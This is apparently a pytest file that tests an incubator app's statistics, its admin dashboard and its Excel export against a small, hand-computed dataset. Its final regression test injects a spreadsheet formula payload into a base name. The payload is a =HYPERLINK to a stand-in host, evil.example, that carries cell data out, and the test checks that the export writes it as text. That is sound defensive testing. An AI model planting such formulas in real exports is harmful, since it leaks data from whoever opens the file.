"""The figures (incubator/figures.py) on a small dataset whose numbers are worked out by hand
below, the admin dashboard that shows them and its Excel download.

The dataset, built through the services; only the dates are then moved into past years:

  凤凰 workstation (STREET)
    a1 graduated   admitted 2024-03-01, graduated 2025-06-30, assessed 50 → 80 (gain 30)
    a2 graduated   admitted 2024-05-01, graduated 2026-01-15, a 筹备 group registered during
                   incubation, assessed 60 → 70 (gain 10)
    a3 in incubation, admitted 2025-02-01, assessed once (40: no gain)
    a4 withdrawn   admitted 2025-03-01, withdrawn 2025-09-01
    a5 applied     (counts nowhere)
    service hours: a1 2.5 + 3.0, a3 1.5 → 7.0
  凤凰社区 studio (COMMUNITY, below the workstation)
    b1 mid-term review, admitted 2026-01-10, assessed 45 → 65 (gain 20); 2.0 service hours
    b2 rejected
  古楼 workstation (STREET)
    c1 graduated   admitted 2024-06-01, graduated 2025-12-01, assessed 40 → 75 (gain 35)
"""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from incubator import services
from incubator.figures import load_frames, summary, yearly
from incubator.models import BaseLevel, Incubation, IncubationBase, IncubationStatus
from orgs.models import OrgType
from tests.charts import chart_option, series
from tests.factories import applicant, make_uscc, organisation_with_leader, staff
from tests.incubator.factories import IncubationBaseFactory, base_operator, incubation_at

S = IncubationStatus
D = datetime.date


def _scores(value):
    return dict.fromkeys(("governance", "finance", "projects", "team", "resources"), value)


def _assess(inc, by, stage, value, day):
    services.assessment_record(incubation=inc, by=by, stage=stage, scores=_scores(value), assessed_on=day)


def _graduate(base, by, first, last, *, org=None, new_uscc="", hours=()):
    inc = incubation_at(base, org, S.IN_INCUBATION, by=by)
    for h in hours:
        _log(inc, by, h)
    _assess(inc, by, "admission", first, D(2024, 1, 10))
    _assess(inc, by, "graduation", last, D(2025, 5, 10))
    extra = {"new_org_type": OrgType.SERVICE_ORG, "new_uscc": new_uscc} if new_uscc else {}
    services.incubation_graduate(incubation=inc, by=by, registered=True, governance=True, project=True, **extra)
    return inc


def _dates(inc, **dates):
    Incubation.objects.filter(pk=inc.pk).update(**dates)


def _log(inc, by, hours):
    services.service_log_add(
        incubation=inc, by=by, kind="training", title="财务管理培训", date=D(2025, 4, 1), hours=Decimal(hours)
    )


@pytest.fixture
def dataset(regions):
    street = IncubationBaseFactory(name="凤凰街道共享工作站", level=BaseLevel.STREET, region=regions["fenghuang"])
    studio = IncubationBaseFactory(
        name="凤凰社区共享工作室", level=BaseLevel.COMMUNITY, region=regions["fenghuang_c"], parent=street
    )
    gulou = IncubationBaseFactory(name="古楼街道共享工作站", level=BaseLevel.STREET, region=regions["gulou"])
    op = base_operator(street)
    gulou_op = base_operator(gulou)

    a1 = _graduate(street, op, 50, 80, hours=["2.5", "3.0"])
    Incubation.objects.filter(pk=a1.pk).update(starts_on=D(2024, 3, 1), graduated_on=D(2025, 6, 30))

    group, _ = organisation_with_leader(org_type=OrgType.PREPARING, uscc=None)
    a2 = _graduate(street, op, 60, 70, org=group, new_uscc=make_uscc(9001))
    _dates(a2, starts_on=D(2024, 5, 1), graduated_on=D(2026, 1, 15))

    a3 = incubation_at(street, status=S.IN_INCUBATION, by=op)
    _assess(a3, op, "admission", 40, D(2025, 2, 10))
    _log(a3, op, "1.5")
    _dates(a3, starts_on=D(2025, 2, 1))

    a4 = incubation_at(street, status=S.WITHDRAWN, by=op)
    _dates(a4, starts_on=D(2025, 3, 1), withdrawn_on=D(2025, 9, 1))
    incubation_at(street, status=S.APPLIED, by=op)

    b1 = incubation_at(studio, status=S.MID_REVIEW, by=op)
    _assess(b1, op, "admission", 45, D(2026, 1, 20))
    _assess(b1, op, "mid", 65, D(2026, 6, 20))
    _log(b1, op, "2.0")
    _dates(b1, starts_on=D(2026, 1, 10))
    incubation_at(studio, status=S.REJECTED, by=op)

    c1 = _graduate(gulou, gulou_op, 40, 75)
    _dates(c1, starts_on=D(2024, 6, 1), graduated_on=D(2025, 12, 1))
    return {"street": street, "studio": studio, "gulou": gulou, "a2": a2}


def test_the_registered_group_really_registered(dataset):
    a2 = Incubation.objects.select_related("organisation").get(pk=dataset["a2"].pk)
    assert a2.registered_during and a2.organisation.org_type == OrgType.SERVICE_ORG


def test_frames_cost_four_queries_whatever_the_data(dataset, django_assert_num_queries):
    with django_assert_num_queries(4):
        load_frames(IncubationBase.objects.all())


def test_per_base_figures(dataset):
    table = summary(load_frames(IncubationBase.objects.all()))
    street = table.loc[dataset["street"].pk]
    assert street["name"] == "凤凰街道共享工作站"
    assert (street["residents"], street["admitted"], street["graduated"], street["withdrawn"]) == (1, 4, 2, 1)
    assert street["registered_share"] == 0.5  # a2 of {a1, a2}
    assert street["service_hours"] == 7.0
    assert street["avg_gain"] == 20.0  # (30 + 10) / 2; a3 assessed once does not count
    assert street["projects_funded"] == 0

    studio = table.loc[dataset["studio"].pk]
    assert (studio["residents"], studio["admitted"], studio["graduated"], studio["withdrawn"]) == (1, 1, 0, 0)
    assert studio["registered_share"] != studio["registered_share"]  # NaN: no graduates, shown as “—”
    assert (studio["service_hours"], studio["avg_gain"]) == (2.0, 20.0)

    gulou = table.loc[dataset["gulou"].pk]
    assert (gulou["residents"], gulou["admitted"], gulou["graduated"], gulou["registered_share"]) == (0, 1, 1, 0.0)
    assert (gulou["service_hours"], gulou["avg_gain"]) == (0.0, 35.0)


def test_per_level_figures_average_over_incubations_not_bases(dataset):
    table = summary(load_frames(IncubationBase.objects.all()), by="level")
    street = table.loc[BaseLevel.STREET]
    assert (street["label"], street["bases"]) == ("街道（镇）共享工作站", 2)
    assert (street["residents"], street["admitted"], street["graduated"], street["withdrawn"]) == (1, 5, 3, 1)
    assert street["registered_share"] == pytest.approx(1 / 3)
    assert street["service_hours"] == 7.0
    assert street["avg_gain"] == 25.0  # (30 + 10 + 35) / 3, not (20 + 35) / 2
    community = table.loc[BaseLevel.COMMUNITY]
    assert (community["bases"], community["residents"], community["avg_gain"]) == (1, 1, 20.0)
    assert BaseLevel.CITY not in table.index


def test_per_year(dataset):
    frames = load_frames(IncubationBase.objects.all())
    rows = yearly(frames, "base", through=2026)
    street = rows[rows["base_id"] == dataset["street"].pk].set_index("year")
    assert list(street.index) == [2024, 2025, 2026]
    assert street.loc[2024, ["admitted", "graduated", "withdrawn"]].tolist() == [2, 0, 0]
    assert street.loc[2025, ["admitted", "graduated", "withdrawn"]].tolist() == [2, 1, 1]
    assert street.loc[2026, ["admitted", "graduated", "withdrawn"]].tolist() == [0, 1, 0]
    # a base with nothing in a year still has the row, with zeros
    gulou = rows[rows["base_id"] == dataset["gulou"].pk].set_index("year")
    assert gulou.loc[2026, ["admitted", "graduated", "withdrawn"]].tolist() == [0, 0, 0]
    total = yearly(frames, through=2026).set_index("year")
    assert total.loc[2024, "admitted"] == 3 and total.loc[2025, "graduated"] == 2


def test_figures_of_an_empty_scope():
    frames = load_frames(IncubationBase.objects.none())
    assert summary(frames).empty
    assert list(yearly(frames, through=2026)["year"]) == [2026]


# ---- the admin dashboard and its Excel download -----------------------------------------------


def test_dashboard_shows_the_bases_in_the_users_subtree_only(client, dataset, regions):
    client.force_login(staff(Role.BASE_OPERATOR, regions["fenghuang"]))
    response = client.get("/admin/incubator/figures/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "凤凰街道共享工作站" in html and "凤凰社区共享工作室" in html
    assert "古楼街道共享工作站" not in html
    assert "导出 Excel" in html
    # the charts (ECharts) of all the bases and of each level, each with its table
    assert sum(series(chart_option(html, "incubation-all"))["入壳"]) == 5
    assert chart_option(html, f"incubation-level-{BaseLevel.STREET}") and 'id="table-incubation-all"' in html
    assert "+20.0 分" in html and "50%" in html


def test_dashboard_needs_the_permission(client, regions, dataset):
    client.force_login(staff(Role.REVIEWER, regions["city"]))
    assert client.get("/admin/incubator/figures/").status_code in (302, 403)
    client.force_login(applicant())
    assert client.get("/admin/incubator/figures/").status_code in (302, 403)


def test_the_menu_offers_the_dashboard(client, regions):
    client.force_login(staff(Role.BASE_OPERATOR, regions["city"]))
    assert "/admin/incubator/figures/" in client.get("/admin/").content.decode()


def test_excel_export_has_chinese_headers_and_the_figures(client, dataset, regions):
    client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
    response = client.post("/admin/incubator/figures/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["各层级汇总", "各基地汇总", "分年度"]
    sheet = wb["各基地汇总"]
    headers = [c.value for c in sheet[1]]
    assert headers == [
        "基地名称",
        "层级",
        "在孵组织（家）",
        "累计入壳（家）",
        "累计出壳（家）",
        "累计退驻（家）",
        "出壳组织孵化期间完成登记比例",
        "服务时长（小时）",
        "能力评估平均提升（分）",
        "获公益创投资助项目（个）",
    ]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["凤凰街道共享工作站"] == ("凤凰街道共享工作站", "街道（镇）共享工作站", 1, 4, 2, 1, 0.5, 7.0, 20.0, 0)
    assert rows["凤凰社区共享工作室"][6] is None  # no graduates: an empty cell, not 0%
    assert sheet["G2"].number_format == "0%"
    years = list(wb["分年度"].iter_rows(min_row=2, values_only=True))
    assert ("凤凰街道共享工作站", 2025, 2, 1, 1) in years


def test_excel_export_is_scoped_too(client, dataset, regions):
    client.force_login(staff(Role.BASE_OPERATOR, regions["gulou"]))
    wb = load_workbook(io.BytesIO(client.post("/admin/incubator/figures/export.xlsx").content))
    names = [r[0] for r in wb["各基地汇总"].iter_rows(min_row=2, values_only=True)]
    assert names == ["古楼街道共享工作站"]


def test_excel_export_starts_only_on_post_and_the_dashboard_button_posts(client, dataset, regions):
    client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
    assert client.get("/admin/incubator/figures/export.xlsx").status_code == 405
    html = client.get("/admin/incubator/figures/").content.decode()
    # Wagtail's w-action controller submits a POST form with the CSRF token
    assert 'data-action="w-action#post"' in html
    assert 'data-w-action-url-value="/admin/incubator/figures/export.xlsx"' in html
    assert 'href="/admin/incubator/figures/export.xlsx"' not in html


def test_excel_export_writes_a_formula_like_base_name_as_text(client, dataset, regions):
    """Defect 4: a name starting with = must not become a live formula in the download."""
    name = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
    IncubationBase.objects.filter(name="古楼街道共享工作站").update(name=name)
    client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
    wb = load_workbook(io.BytesIO(client.post("/admin/incubator/figures/export.xlsx").content))
    for title in ("各基地汇总", "分年度"):
        cells = [row[0] for row in wb[title].iter_rows(min_row=2) if row[0].value == name]
        assert cells, title
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), title
